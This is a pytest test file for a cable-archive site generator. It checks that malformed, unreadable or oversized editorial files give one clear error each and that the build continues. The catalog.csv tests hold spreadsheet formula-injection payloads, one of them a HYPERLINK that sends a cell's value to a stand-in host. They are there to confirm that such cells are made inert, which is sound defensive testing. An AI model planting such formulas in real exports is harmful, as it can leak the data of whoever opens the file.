"""Nothing is lost without a word (issue 16, part 5) and no editorial file breaks the build (part 4).

Unknown keys are named with the key they resemble; a thread keeps all but its wrong links; a cable keeps its
thousandth paragraph; rows and files too large are refused before they are read; UTF-16 is read as UTF-16;
YAML errors point at the fault; catalog.csv runs no formula; unreadable, misencoded or malformed editorial
files each give one `path[:line]: message` and the build goes on.
"""

from __future__ import annotations

import builtins
import csv
import io
import json
import os
import re
import shutil
import subprocess
import sys
import tempfile
import tracemalloc
from pathlib import Path

import pytest

from generator.read import readers
from generator.edition.content import load_content, load_tags
from generator.render.data import catalog_csv
from generator.errors import Problems
from generator.read.load import read_collection, read_file
from generator.read.parse import parse_document
from generator.read.readers import read_bytes
from generator.build.site import build
from generator.read.store import Store

from .conftest import ROOT, SEED_3239, need_shared, parse_one
from .test_bad_input import run
from .test_readers import csv_row, split_cable

THREAD = Path("threads") / "scrs-beijing-2007.yaml"
ANNOTATION = Path("annotations") / "07BEIJING6872.yaml"


@pytest.fixture
def content(tmp_path) -> Path:
    """A copy of the project's content/ to spoil."""
    folder = tmp_path / "content"
    shutil.copytree(ROOT / "content", folder)
    return folder


def edit(path: Path, old: str, new: str) -> int:
    """Replace the first `old` in a file by `new`; return the line where `new` starts."""
    text = path.read_text(encoding="utf-8")
    at = text.index(old)
    path.write_text(text[:at] + new + text[at + len(old):], encoding="utf-8")
    return text.count("\n", 0, at) + 1


def found(problems: Problems) -> list[str]:
    return [str(p) for p in problems]


def loaded(content: Path) -> tuple[object, list[str]]:
    problems = Problems()
    c = load_content(content, problems)
    return c, found(problems)


# --- unknown keys, everywhere, with the key they resemble ----------------------------------------------

TYPOS = [  # file, the text replaced, its replacement (the typo), the typed key, the key meant
    ("site.yaml", "subtitle:", "subtitel:", "subtitel", "subtitle"),
    ("people.yaml", "  description: >-", "  descripton: >-", "descripton", "description"),
    ("organizations.yaml", "  forms:", "  form:", "form", "forms"),
    ("glossary.yaml", "  sources:", "  source:", "source", "sources"),
    (str(ANNOTATION), "headnote:", "headnot:", "headnot", "headnote"),
    (str(ANNOTATION), "    anchor:", "    anchr:", "anchr", "anchor"),
    (str(THREAD), "summary:", "sumary:", "sumary", "summary"),
    (str(THREAD), "    end:", "    ends:", "ends", "end"),
    (str(THREAD), "    note:", "    notes:", "notes", "note"),
]


@pytest.mark.parametrize("name,old,new,typed,meant", TYPOS, ids=[f"{t[0]}:{t[3]}" for t in TYPOS])
def test_an_unknown_key_is_named_at_its_line_with_the_key_it_resembles(content, name, old, new, typed, meant):
    path = content / name
    line = edit(path, old, new)
    _, problems = loaded(content)
    assert f"{path}:{line}: warning: {typed}: unknown key; did you mean {meant}?" in problems, problems


def test_a_typo_in_a_thread_summary_is_reported_by_the_build(content, tmp_path):
    line = edit(content / THREAD, "summary:", "sumary:")
    r = run("build", "--content", str(content), "--output", str(tmp_path / "site"), "--no-search")
    assert r.returncode == 0 and "Traceback" not in r.stderr, r.stderr
    assert f"{content / THREAD}:{line}: warning: sumary: unknown key; did you mean summary?" in r.stderr, r.stderr
    r = run("build", "--content", str(content), "--output", str(tmp_path / "strict"), "--no-search", "--strict")
    assert r.returncode == 1 and "sumary: unknown key" in r.stderr


def test_an_unknown_column_of_tags_csv_is_named_with_the_column_it_resembles(content):
    path = content / "tags.csv"
    text = path.read_text(encoding="utf-8")
    path.write_text(text.replace(",notes\n", ",note\n", 1), encoding="utf-8")
    c, problems = loaded(content)
    assert problems == [f"{path}:1: warning: note: unknown key; did you mean notes?"]
    assert c.tags["KCRS"]["definition_source"]


def test_a_key_with_no_likeness_lists_the_known_keys(content):
    path = content / "site.yaml"
    line = edit(path, "title:", "zzz: 1\ntitle:")
    _, problems = loaded(content)
    [message] = [p for p in problems if "zzz" in p]
    assert message.startswith(f"{path}:{line}: warning: zzz: unknown key; the known keys are title, subtitle")


def test_the_project_content_has_no_unknown_key_nor_any_other_problem(content):
    _, problems = loaded(content)
    assert problems == []


def test_tags_csv_keeps_every_definition_source_whole():
    """92 rows of tags.csv had a comma unquoted in their source: the site showed it cut at the comma."""
    for path in (ROOT / "content" / "tags.csv", ROOT / "generator" / "data" / "tags.csv"):
        problems = Problems()
        tags = load_tags(path, problems)
        assert not problems.items, found(problems)
        assert tags["AADP"]["definition_source"].endswith("not checked against a primary source) - check before "
                                                          "publishing")


# --- threads: a wrong link is left out, the rest is built ------------------------------------------------

def test_a_thread_with_one_bad_link_is_built_without_it(content, tmp_path):
    thread = content / THREAD
    link_line = edit(thread, '    to: "07BEIJING6872 ¶1-2"', '    to: "07BEIJING6827 ¶1-2"') - 1
    event_line = edit(thread, 'cable: "07BEIJING3239 ¶7"', 'cable: "07BEIJNG3239 ¶7"') - 2
    out = tmp_path / "site"
    problems = build(content, out, Problems(), index_search=False)
    assert f"{thread}:{link_line}: warning: 07BEIJING6827 is not among the cables of the edition (did you mean " \
           f"07BEIJING6872?); the link is left out" in found(problems), found(problems)
    assert f"{thread}:{event_line}: warning: 07BEIJNG3239 is not among the cables of the edition (did you mean " \
           f"07BEIJING3239?); the event is shown without its cable" in found(problems), found(problems)
    page = (out / "threads" / "scrs-beijing-2007" / "index.html").read_text(encoding="utf-8")
    total = (ROOT / "content" / THREAD).read_text(encoding="utf-8").count("  - from:")
    assert sorted(set(re.findall(r'id="link-(\d+)"', page))) == [str(k) for k in range(1, total)]
    assert "Working dinner with Rear Admiral Yang Yi" in page  # the event stays, without its cable
    assert "07BEIJING6827" not in page
    record = json.loads((out / "cables" / "07BEIJING3239" / "07BEIJING3239.json").read_text(encoding="utf-8"))
    assert [t["slug"] for t in record["editorial"]["threads"]] == ["scrs-beijing-2007"]


@pytest.mark.parametrize("events", ["events: 7", "events: []", "events: \"none\""])
def test_a_thread_with_no_events_gives_one_message_and_no_traceback(content, tmp_path, events):
    thread = content / THREAD
    thread.write_text(f'title: "A thread"\nsummary: "Nothing yet."\n{events}\n', encoding="utf-8")
    r = run("build", "--content", str(content), "--output", str(tmp_path / "site"), "--no-search")
    assert r.returncode == 0 and "Traceback" not in r.stderr, r.stderr
    mine = [line for line in r.stderr.splitlines() if line.startswith(str(thread))]
    expected = [f"{thread}:1: warning: the thread has no event and no link to a dated cable, nothing to draw its "
                "timeline from; the thread is left out"]
    if events == "events: 7":
        expected.append(f"{thread}:3: warning: events (each a date, label and cable) must be a list (each item "
                           "on a line starting with \"- \"), not a number; it is not read")
    if events == 'events: "none"':
        expected.append(f"{thread}:3: warning: events (each a date, label and cable) must be a list (each item "
                           "on a line starting with \"- \"), not text; it is not read")
    assert mine == expected, r.stderr
    assert (tmp_path / "site" / "cables" / "07BEIJING3239" / "index.html").exists()


def test_a_thread_with_links_and_no_events_is_built(content, tmp_path):
    thread = content / THREAD
    text = thread.read_text(encoding="utf-8")
    thread.write_text(text[: text.index("events:")] + text[text.index("links:"):], encoding="utf-8")
    problems = build(content, tmp_path / "site", Problems(), index_search=False)
    assert not problems.items, found(problems)
    assert (tmp_path / "site" / "threads" / "scrs-beijing-2007" / "index.html").exists()


# --- a cable of more than 999 paragraphs keeps them all -------------------------------------------------

def long_cable(count: int) -> tuple[bytes, list[str]]:
    """A cable of `count` numbered paragraphs, made of a real one: its header, then its paragraphs over and
    over, each numbered in turn and marked (C), then its signature. Returns the bytes and each text."""
    source = need_shared("corpus", "dev", "07BEIJING1668.txt")
    real = parse_one(source)[0]
    text = source.read_text(encoding="utf-8")
    head = text[: text.index("¶1.")]
    pool = [p.text for p in real.paragraphs if p.number is not None]
    texts = [f"{pool[(n - 1) % len(pool)]} (copy {n})" for n in range(1, count + 1)]
    body = "\n\n".join(f"¶{n}. (C) {t}" for n, t in enumerate(texts, 1))
    return (head + body + "\n\nRANDT\n").encode("utf-8"), texts


def test_a_cable_of_1200_paragraphs_keeps_every_one():
    data, texts = long_cable(1200)
    cable = parse_document(read_bytes(data, "long.txt"))
    assert [p.label for p in cable.paragraphs] == [str(n) for n in range(1, 1201)]
    assert [p.text for p in cable.paragraphs] == texts  # ¶999 holds its own text only, not ¶1000-1200
    assert [p.marking for p in cable.paragraphs] == ["C"] * 1200


def test_paragraphs_past_9999_are_kept_too():
    data, texts = long_cable(10002)
    cable = parse_document(read_bytes(data, "long.txt"))
    assert [p.label for p in cable.paragraphs][-4:] == ["9999", "10000", "10001", "10002"]
    assert cable.paragraphs[9998].text == texts[9998]


# --- rows and files over the limit are refused before they are read ------------------------------------------

def csv_of(rows: list[str], path: Path) -> Path:
    with open(path, "w", encoding="utf-8", newline="") as f:
        f.writelines(rows)
    return path


def real_rows() -> tuple[str, str, str, str]:
    dev = need_shared("corpus", "dev")
    h1, b1 = split_cable((dev / "07BEIJING1668.txt").read_text(encoding="utf-8"))
    h2, b2 = split_cable((dev / "09BEIJING3160.txt").read_text(encoding="utf-8"))
    return h1, b1, h2, b2


@pytest.mark.parametrize("shape", ["lines", "one line"])
def test_a_cables_csv_row_over_the_limit_is_refused_while_it_is_read(tmp_path, monkeypatch, shape):
    """A row over the limit is named at its line and passed over without being held; the rows after it are read."""
    limit = 1 << 20
    monkeypatch.setattr(readers, "MAX_CABLE_BYTES", limit)
    h1, b1, h2, b2 = real_rows()
    filler = ("word " * 19 + "\n") * (30 * limit // 100) if shape == "lines" else "word " * (6 * limit)
    rows = [csv_row(1, "3/20/2007 9:09", "07BEIJING1668", "Embassy Beijing", "CONFIDENTIAL", "", h1, b1),
            csv_row(2, "3/21/2007 9:09", "07BEIJING1700", "Embassy Beijing", "CONFIDENTIAL", "", h1, b1 + filler),
            csv_row(3, "11/23/2009 11:11", "09BEIJING3160", "Embassy Beijing", "CONFIDENTIAL", "", h2, b2)]
    path = csv_of(rows, tmp_path / "cables.csv")
    problems = Problems()
    tracemalloc.start()
    cables = list(read_file(path, problems))
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert [c.id for c in cables] == ["07BEIJING1668", "09BEIJING3160"]
    second = rows[0].count("\n") + 1
    assert cables[1].source.line == second + rows[1].count("\n")
    assert cables[1].source.data == rows[2].encode("utf-8")
    [err] = problems.errors
    size = len(rows[1].encode("utf-8")) / 1048576
    assert str(err) == (f"{path}:{second}: error: the row is {size:,.1f} MB, far larger than any cable (limit 1 MB); "
                        "it is left out")
    assert peak < len(rows[1]) / 3, peak  # some of the row, never the whole


def test_a_row_over_the_limit_is_found_wherever_the_next_row_starts(tmp_path, monkeypatch):
    """The rest of a long row is searched a block at a time: a row starting across two blocks is still found."""
    monkeypatch.setattr(readers, "MAX_CABLE_BYTES", 4096)
    h1, b1, h2, b2 = real_rows()
    rows = [csv_row(1, "3/21/2007 9:09", "07BEIJING1700", "Embassy Beijing", "CONFIDENTIAL", "", h1, b1 * 4),
            csv_row(2, "11/23/2009 11:11", "09BEIJING3160", "Embassy Beijing", "CONFIDENTIAL", "", h2, b2[:2000])]
    path = csv_of(rows, tmp_path / "cables.csv")
    seen = set()
    for block in (1, 2, 3, 7, 50, 97, 1000, 4099, 1 << 20):
        monkeypatch.setattr(readers, "SKIP_CHUNK", block, raising=False)
        problems = Problems()
        cables = list(read_file(path, problems))
        assert [(c.id, c.source.line, c.source.data) for c in cables] == [
            ("09BEIJING3160", rows[0].count("\n") + 1, rows[1].encode("utf-8"))], block
        seen.add(tuple(found(problems)))
    assert len(seen) == 1 and "the row is" in next(iter(seen))[0]


def test_a_cables_csv_row_over_the_real_limit_is_refused(tmp_path):
    h1, b1, h2, b2 = real_rows()
    big = b1 + "x" * (readers.MAX_CABLE_BYTES + 1)
    rows = [csv_row(1, "3/21/2007 9:09", "07BEIJING1700", "Embassy Beijing", "CONFIDENTIAL", "", h1, big),
            csv_row(2, "11/23/2009 11:11", "09BEIJING3160", "Embassy Beijing", "CONFIDENTIAL", "", h2, b2)]
    problems = Problems()
    cables = list(read_file(csv_of(rows, tmp_path / "cables.csv"), problems))
    assert [c.id for c in cables] == ["09BEIJING3160"]
    assert [p.line for p in problems.errors] == [1] and "limit 10 MB" in problems.errors[0].message


def test_a_file_over_the_limit_is_refused_from_its_size_before_it_is_read(tmp_path):
    """A cable's text, then 200 MB of nothing (a sparse file): a build must not read it to learn its size."""
    folder = tmp_path / "cables"
    folder.mkdir()
    huge = folder / "huge.txt"
    with open(huge, "wb") as f:
        f.write(SEED_3239.read_bytes())
        f.truncate(200 * 1024 * 1024)
    shutil.copy(SEED_3239, folder / "good.txt")
    problems = Problems()
    tracemalloc.start()
    entries = read_collection([folder], problems, Store(tmp_path / "cache"), {}, [], show=False)
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert [b.id for e in entries.values() for b in e["briefs"]] == ["07BEIJING3239"]
    assert found(problems) == [f"{huge}: error: the file is 200 MB, far larger than any cable (limit 10 MB); "
                               "split it or import it as a cables.csv"]
    assert peak < 20 * 1024 * 1024, peak


def test_an_editorial_file_over_the_limit_is_refused_from_its_size(content):
    path = content / "people.yaml"
    with open(path, "r+b") as f:
        f.truncate(60 * 1024 * 1024)  # what was there, then zeros
    tracemalloc.start()
    c, problems = loaded(content)
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert peak < 30 * 1024 * 1024, peak  # the file was not read (the rest of content/ takes about 12 MB)
    assert problems == [f"{path}: error: the file is 60 MB, larger than any editorial file (limit 10 MB); "
                        "it is not read"]
    assert c.glossary and not c.people


# --- UTF-16 is read as UTF-16 ----------------------------------------------------------------------------

UTF16 = {  # name: (encode, codec recorded, words of the warning)
    "bom-le": (lambda t: b"\xff\xfe" + t.encode("utf-16-le"), "utf-16", "UTF-16 (little-endian)"),
    "bom-be": (lambda t: b"\xfe\xff" + t.encode("utf-16-be"), "utf-16", "UTF-16 (big-endian)"),
    "le": (lambda t: t.encode("utf-16-le"), "utf-16-le", "UTF-16 (little-endian, without a BOM)"),
    "be": (lambda t: t.encode("utf-16-be"), "utf-16-be", "UTF-16 (big-endian, without a BOM)"),
}


@pytest.mark.parametrize("name", list(UTF16))
@pytest.mark.parametrize("sample", ["07BEIJING1668.txt", "06BERN2115.txt", "raw_html/07BEIJING1668.html"])
def test_utf16_is_read_as_utf16_and_its_source_kept(tmp_path, name, sample):
    """A cable with pilcrows, one in ASCII only (valid UTF-8 too in UTF-16, with NULs between) and a page."""
    source = need_shared("corpus", "dev", sample)
    encode, codec, words = UTF16[name]
    utf8 = parse_one(source)[0]
    data = encode(source.read_text(encoding="utf-8"))
    path = tmp_path / source.name
    path.write_bytes(data)
    problems = Problems()
    [cable] = list(read_file(path, problems))
    assert cable.id == utf8.id and cable.source.format == utf8.source.format
    assert [(p.label, p.text) for p in cable.paragraphs] == [(p.label, p.text) for p in utf8.paragraphs]
    assert cable.source.data == data and cable.source.encoding == codec
    assert data.decode(codec) == source.read_text(encoding="utf-8")  # the source page decodes it so
    assert f"{path}: warning: the file is {words}, not UTF-8; read as UTF-16" in found(problems)


def test_a_utf16_cables_csv_is_named_as_utf16(tmp_path):
    h1, b1, _, _ = real_rows()
    row = csv_row(1, "3/20/2007 9:09", "07BEIJING1668", "Embassy Beijing", "CONFIDENTIAL", "", h1, b1)
    path = tmp_path / "cables.csv"
    path.write_bytes(row.encode("utf-16"))
    problems = Problems()
    assert list(read_file(path, problems)) == []
    [err] = found(problems)
    assert "UTF-16 (little-endian)" in err and "binary" not in err and "iconv -f UTF-16 -t UTF-8" in err


def test_binary_data_is_not_taken_for_utf16(tmp_path):
    png = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 40
    path = tmp_path / "image.txt"
    path.write_bytes(png)
    problems = Problems()
    assert list(read_file(path, problems)) == [] and "binary" in found(problems)[0]


def test_an_editorial_file_in_utf16_is_read(content):
    path = content / ANNOTATION
    text = path.read_text(encoding="utf-8")
    path.write_bytes(text.encode("utf-16"))
    c, problems = loaded(content)
    assert problems == []
    assert c.annotations["07BEIJING6872"].headnote.startswith("The cable reports the Reconstruction")


# --- YAML errors point at the fault ------------------------------------------------------------------------

def unquote(path: Path, line: int) -> int:
    """Drop the closing quote of a line; return the column of its opening quote (from 1)."""
    lines = path.read_text(encoding="utf-8").split("\n")
    assert lines[line - 1].endswith('"'), lines[line - 1]
    lines[line - 1] = lines[line - 1][:-1]
    path.write_text("\n".join(lines), encoding="utf-8")
    return lines[line - 1].index('"') + 1


def test_an_unclosed_quote_is_reported_where_it_opens(content):
    thread = content / THREAD
    column = unquote(thread, 61)
    _, problems = loaded(content)
    [message] = problems
    assert message.startswith(f"{thread}:61:{column}: error: invalid YAML: the quoted text that opens here runs on "
                              "to line 63"), message
    assert "is its closing quote missing?" in message


def test_a_quote_left_open_to_the_end_of_the_file_is_reported_where_it_opens(content):
    note = content / ANNOTATION
    lines = note.read_text(encoding="utf-8").rstrip("\n").split("\n")
    note.write_text("\n".join(lines + ['sic: ["wiling]', "", "# the end"]) + "\n", encoding="utf-8")
    _, problems = loaded(content)
    assert problems == [f"{note}:{len(lines) + 1}:7: error: invalid YAML: a quoted text opens here and is never "
                        "closed (the file ends): add its closing quote"]


def test_other_yaml_errors_name_line_and_column_on_the_command_line(content, tmp_path):
    site = content / "site.yaml"
    line = edit(site, "language:", "language: en: fr\nlanguage_:")
    r = run("check", "--content", str(content), "--output", str(tmp_path / "site"))
    assert r.returncode == 1 and "Traceback" not in r.stderr, r.stderr
    assert f"{site}:{line}:13: error: invalid YAML: mapping values are not allowed" in r.stderr, r.stderr


def test_a_list_as_a_key_is_refused_with_its_line(content):
    people = content / "people.yaml"
    line = edit(people, "herbst-john:", "? [a, b]\n: 1\nherbst-john:")
    _, problems = loaded(content)
    assert problems == [f"{people}:{line}: error: invalid YAML: a key must be a word, not list"]


# --- catalog.csv runs no formula --------------------------------------------------------------------------

FORMULAS = ["=HYPERLINK(\"http://example.invalid\",\"x\")", "+1+1", "-2+3", "@SUM(A1)", "\tTAB", "\rCR"]


def test_catalog_csv_cells_that_start_a_formula_are_made_inert():
    rows = [{"id": "07X1", "created": "2007", "origin": f, "classification": "", "caveats": [f, "NOFORN"],
             "subject": f, "tags": [], "references": [], "partial": False, "annotated": True, "threads": [],
             "page": "", "json": "", "source": "", "sha256": ""} for f in FORMULAS]
    parsed = list(csv.DictReader(io.StringIO(catalog_csv(rows), newline="")))
    assert [r["subject"] for r in parsed] == ["'" + f for f in FORMULAS]
    assert [r["origin"] for r in parsed] == ["'" + f for f in FORMULAS]
    assert [r["caveats"] for r in parsed] == [f"'{f} NOFORN" for f in FORMULAS]
    assert {r["partial"] for r in parsed} == {"false"} and {r["annotated"] for r in parsed} == {"true"}


def test_a_subject_written_as_a_formula_is_inert_in_the_built_catalog(tmp_path):
    folder = tmp_path / "content"
    (folder / "cables").mkdir(parents=True)
    text = need_shared("corpus", "dev", "07BEIJING1668.txt").read_text(encoding="utf-8")
    formula = '=HYPERLINK("http://example.invalid/?leak="&A1,"Click")'
    spoilt = text.replace("SUBJECT: WU YI INTERVENES AS DR. GAO CASE LAYS BARE\nCENTER-LOCAL DISCORD",
                          f"SUBJECT: {formula}", 1)
    assert spoilt != text
    (folder / "cables" / "formula.txt").write_text(spoilt, encoding="utf-8")
    out = tmp_path / "site"
    build(folder, out, Problems(), index_search=False)
    [row] = list(csv.DictReader(io.StringIO((out / "catalog.csv").read_text(encoding="utf-8"), newline="")))
    assert row["subject"].startswith("'=HYPERLINK(")
    assert json.loads((out / "catalog.json").read_text(encoding="utf-8"))["cables"][0]["subject"].startswith("=")


# --- part 4: unreadable, misencoded and malformed editorial files -------------------------------------------

def deny(monkeypatch, *denied: Path) -> None:
    """Make these files and folders unreadable as they would be to a user without the right (the tests run as
    root, who can read anything): opening or listing one raises PermissionError."""
    denied_ = {str(p) for p in denied}
    real_open, real_scandir = builtins.open, os.scandir

    def guarded_open(file, *args, **kwargs):
        if str(file) in denied_:
            raise PermissionError(13, "Permission denied", str(file))
        return real_open(file, *args, **kwargs)

    def guarded_scandir(path="."):
        if os.fspath(path) in denied_:
            raise PermissionError(13, "Permission denied", os.fspath(path))
        return real_scandir(path)

    monkeypatch.setattr(builtins, "open", guarded_open)
    monkeypatch.setattr(io, "open", guarded_open)
    monkeypatch.setattr(os, "scandir", guarded_scandir)


UNREADABLE = ["site.yaml", "people.yaml", "glossary.yaml", "tags.csv", str(ANNOTATION), str(THREAD),
              "pages/about.md", "annotations", "threads", "pages"]


@pytest.mark.parametrize("name", UNREADABLE)
def test_an_unreadable_editorial_file_or_folder_is_one_error_and_the_rest_is_read(content, monkeypatch, name):
    path = content / name
    deny(monkeypatch, path)
    c, problems = loaded(content)
    what = "the folder cannot be read (Permission denied); its files are left out" if path.is_dir() \
        else "cannot be read (Permission denied); it is left out"
    assert problems == [f"{path}: error: {what}"]
    assert c.organizations and (c.people or name == "people.yaml") and (c.tags or name == "tags.csv")
    assert ("07BEIJING3239" in c.annotations or name == "annotations") and (c.pages.get("home") or name == "pages")
    assert c.threads or name in ("threads", str(THREAD))


@pytest.mark.parametrize("name", ["site.yaml", "people.yaml", "tags.csv", str(ANNOTATION), "pages/about.md"])
def test_a_folder_where_a_file_is_expected_is_one_error(content, name):
    path = content / name
    path.unlink()
    path.mkdir()
    c, problems = loaded(content)
    assert problems == [f"{path}: error: a folder where a file is expected; it is not read"]
    assert c.glossary and c.site["title"]


@pytest.mark.parametrize("name", ["annotations", "threads", "pages"])
def test_a_file_where_a_folder_is_expected_is_one_error(content, name):
    path = content / name
    shutil.rmtree(path)
    path.write_text("not a folder\n", encoding="utf-8")
    _, problems = loaded(content)
    assert len(problems) == 1 and problems[0].startswith(f"{path}: error: a file where a folder of *.")


def test_a_yaml_file_named_yml_is_not_skipped_silently(content):
    (content / ANNOTATION).rename(content / "annotations" / "07BEIJING6872.yml")
    c, problems = loaded(content)
    assert problems == [f"{content / 'annotations' / '07BEIJING6872.yml'}: warning: not read: only files ending in "
                        ".yaml are; rename it 07BEIJING6872.yaml"]
    assert "07BEIJING6872" not in c.annotations


def unreadable_as_a_user(paths: list[Path]) -> list[str] | None:
    """How to run a command as a user who cannot read `paths` (chmod 000): as is, or, as root (who reads
    anything), as nobody through setpriv; None where neither is possible."""
    for p in paths:
        p.chmod(0)
    if os.geteuid() != 0:
        return []
    setpriv = shutil.which("setpriv")
    return [setpriv, "--reuid=65534", "--regid=65534", "--clear-groups"] if setpriv else None


@pytest.fixture
def world():
    """A folder that any user may enter and write in (pytest's own are private to their owner)."""
    folder = Path(tempfile.mkdtemp(prefix="silent-loss-"))
    folder.chmod(0o777)
    yield folder
    for p in [folder, *folder.rglob("*")]:
        if not p.is_symlink():
            p.chmod(0o777 if p.is_dir() else 0o666)
    shutil.rmtree(folder)


DENIED = ["tags.csv", "people.yaml", "pages/about.md", "annotations"]


def as_a_user_who_cannot_read(world: Path, command: str) -> tuple[Path, subprocess.CompletedProcess]:
    """Run a command on a copy of content/ in which DENIED have no read permission, as a user who has none."""
    content = world / "content"
    shutil.copytree(ROOT / "content", content)
    for p in [content, *content.rglob("*")]:
        p.chmod(0o777 if p.is_dir() else 0o666)
    prefix = unreadable_as_a_user([content / name for name in DENIED])
    if prefix is None:
        pytest.skip("running as root without setpriv: no file can be made unreadable")
    if prefix and subprocess.run(prefix + [sys.executable, str(ROOT / "build.py"), "--version"],
                                 capture_output=True, cwd=world).returncode != 0:
        # A clone inside a private folder (mktemp -d makes it 0700): nobody cannot run the generator at all.
        pytest.skip(f"the user nobody cannot run the generator in {ROOT} (a folder above it is private); "
                    "clone the project into a folder others may enter to run this test")
    r = subprocess.run(prefix + [sys.executable, str(ROOT / "build.py"), command, "--content", str(content),
                                 "--output", str(world / "site"), *(["--no-search"] if command == "build" else [])],
                       cwd=world, capture_output=True, text=True, timeout=300,
                       env={**os.environ, "PYTHONDONTWRITEBYTECODE": "1"})
    assert "Traceback" not in r.stderr, r.stderr
    for name in DENIED:
        [line] = [ln for ln in r.stderr.splitlines() if ln.startswith(f"{content / name}:")]
        assert "(Permission denied)" in line, line
    return content, r


def test_really_unreadable_editorial_files_are_named_by_check(world):
    """No mock: files and a folder with no read permission, read by a user who has none."""
    content, r = as_a_user_who_cannot_read(world, "check")
    assert r.returncode == 1 and f"{content / 'tags.csv'}: error: cannot be read (Permission denied)" in r.stderr


def test_really_unreadable_editorial_files_do_not_stop_the_build(world):
    content, r = as_a_user_who_cannot_read(world, "build")
    assert r.returncode == 0, r.stderr
    assert f"{content / 'people.yaml'}: warning: cannot be read (Permission denied); it is left out" in r.stderr
    assert (world / "site" / "cables" / "07BEIJING3239" / "index.html").exists()


def test_tags_csv_with_bad_utf8_is_read_with_a_warning_at_its_line(content):
    path = content / "tags.csv"
    data = path.read_bytes()
    at = data.index(b"Stabilization (S/CRS) program tag")
    path.write_bytes(data[:at] + "Stabilizaci\xf3n".encode("cp1252") + data[at + len(b"Stabilization"):])
    c, problems = loaded(content)
    line = data[:at].count(b"\n") + 1
    assert problems == [f"{path}:{line}: warning: not valid UTF-8; read as cp1252 (save it as UTF-8)"]
    assert c.tags["KCRS"]["definition"].startswith("Coordinator for Reconstruction and Stabilización (S/CRS)")
    assert len(c.tags) == 1033


def test_tags_csv_without_a_column_is_an_error_and_read_as_empty(content):
    path = content / "tags.csv"
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))
    drop = rows[0].index("definition_source")
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerows([r[:drop] + r[drop + 1:] for r in rows])
    path.write_text(out.getvalue(), encoding="utf-8")
    c, problems = loaded(content)
    assert problems == [f"{path}:1: error: tags.csv has no column definition_source; read as empty"]
    assert c.tags["KCRS"]["definition_source"] == "" and c.tags["KCRS"]["definition"]


def test_tags_csv_without_the_tag_column_reads_no_row(content, tmp_path):
    path = content / "tags.csv"
    path.write_text("code,definition\nKCRS,x\n", encoding="utf-8")
    c, problems = loaded(content)
    assert f"{path}:1: error: tags.csv has no column tag: no row can be read" in problems
    assert c.tags == {}
    problems = build(content, tmp_path / "site", Problems(), index_search=False)  # the build goes on
    assert (tmp_path / "site" / "cables" / "07BEIJING3239" / "index.html").exists()


def test_a_short_row_of_tags_csv_is_read_as_far_as_it_goes(content, tmp_path):
    path = content / "tags.csv"
    text = path.read_text(encoding="utf-8")
    line = text.rstrip("\n").count("\n") + 2
    path.write_text(text + "KZZZ,subject\n", encoding="utf-8")
    c, problems = loaded(content)
    assert problems == [f"{path}:{line}: warning: the row has 2 cells, the header 8; the missing ones are read as "
                        "empty"]
    assert c.tags["KZZZ"]["kind"] == "subject" and c.tags["KZZZ"]["definition_confidence"] == ""
    problems = build(content, tmp_path / "site", Problems(), index_search=False)
    assert (tmp_path / "site" / "cables" / "07BEIJING3239" / "index.html").exists()


def test_a_page_with_bad_utf8_is_read_with_a_warning_at_its_line(content, tmp_path):
    page = content / "pages" / "about.md"
    data = page.read_bytes()
    at = data.index(b"The cables are")
    page.write_bytes(data[:at] + "Les c\xe2bles: ".encode("cp1252") + data[at:])
    line = data.count(b"\n", 0, at) + 1
    r = run("build", "--content", str(content), "--output", str(tmp_path / "site"), "--no-search")
    assert r.returncode == 0 and "Traceback" not in r.stderr, r.stderr
    assert f"{page}:{line}: warning: not valid UTF-8; read as cp1252 (save it as UTF-8)" in r.stderr, r.stderr
    assert "Les câbles" in (tmp_path / "site" / "about" / "index.html").read_text(encoding="utf-8")


# --- what would be read and never shown ---------------------------------------------------------------------

def test_a_page_the_site_does_not_make_is_named(content):
    shutil.copy(content / "pages" / "about.md", content / "pages" / "abuot.md")
    (content / "pages" / "contact.md").write_text("# Contact\n", encoding="utf-8")
    c, problems = loaded(content)
    pages = content / "pages"
    assert problems == [f"{pages / 'abuot.md'}: warning: not published: no page of the site is made from it (did "
                        "you mean about.md?)",
                        f"{pages / 'contact.md'}: warning: not published: no page of the site is made from it (the "
                        "pages are home.md, about.md, how-to-read.md)"]
    assert set(c.pages) == {"home", "about", "how-to-read"}


def test_two_entries_with_the_same_key_are_named(content):
    people = content / "people.yaml"
    text = people.read_text(encoding="utf-8")
    assert text.endswith("\n")
    line = text.count("\n") + 1
    people.write_text(text + 'Herbst John:\n  name: "Someone else"\n  description: "x"\n', encoding="utf-8")
    c, problems = loaded(content)
    assert problems == [f"{people}:{line}: error: entry 'Herbst John' has the same key as an earlier one "
                        "(herbst-john, used in links); it is left out: rename one"]
    assert c.people["herbst-john"].name == "John E. Herbst"


def test_two_threads_at_the_same_address_are_named(content):
    copy = content / "threads" / "SCRS Beijing 2007.yaml"
    shutil.copy(content / THREAD, copy)
    c, problems = loaded(content)
    assert problems == [f"{content / THREAD}: error: the thread would be published at threads/scrs-beijing-2007/, "
                        f"as {copy} is; it is left out: rename one"]
    assert list(c.threads) == ["scrs-beijing-2007"]


# --- found by breaking the code on purpose (a mutation sweep of #16's safety code) --------------------

@pytest.mark.parametrize("name", ["glossary.yaml", "tags.csv", str(ANNOTATION), "pages/about.md",
                                  "cables/pipe.txt"])
def test_a_pipe_in_content_is_one_error_and_never_blocks(content, tmp_path, name):
    """A named pipe (mkfifo) where a file is expected: opening it to read waits for a writer that never comes,
    so `check`, `build` and `inspect` used to hang for good. It is refused, and everything else is read."""
    path = content / name
    path.unlink(missing_ok=True)
    os.mkfifo(path)
    for args in (["check", "--content", str(content)],
                 ["build", "--content", str(content), "--output", str(tmp_path / "site"), "--no-search"],
                 ["inspect", str(content / "cables")]):
        try:
            r = subprocess.run([sys.executable, str(ROOT / "build.py"), *args], cwd=ROOT, capture_output=True,
                               text=True, timeout=60)
        except subprocess.TimeoutExpired:
            raise AssertionError(f"{args[0]} blocked on the pipe {path}") from None
        assert "Traceback" not in r.stderr, r.stderr
        lines = [ln for ln in r.stderr.splitlines() if ln.startswith(f"{path}:")]
        if args[0] == "inspect" and not name.startswith("cables/"):
            assert lines == [], r.stderr
            continue
